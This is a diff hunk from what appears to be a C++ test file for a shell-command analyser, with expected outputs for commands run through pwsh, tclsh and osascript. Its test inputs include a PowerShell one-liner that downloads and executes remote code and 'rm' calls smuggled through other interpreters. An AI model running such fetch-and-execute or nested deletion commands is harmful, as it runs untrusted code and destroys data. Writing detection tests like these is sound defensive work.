@@ -281,7 +281,7 @@ rm | x | remove:/home/user/project/x | via ftp | fact operand
      R"~(pwsh -c=iex (iwr https://a.example) | host https://a.example | code powershell,iex,iwr | fact code.fetched
 )~"},
     {R"~(tclsh <<< 'exec rm x')~",
-     R"~(tclsh | code tcl,exec text | fact carries
+     R"~(tclsh | code tcl,exec | fact carries
 rm | x | remove:/home/user/project/x | via tcl | fact operand
 )~"},
     {R"~(osascript -e 'do shell script "rm x"')~",
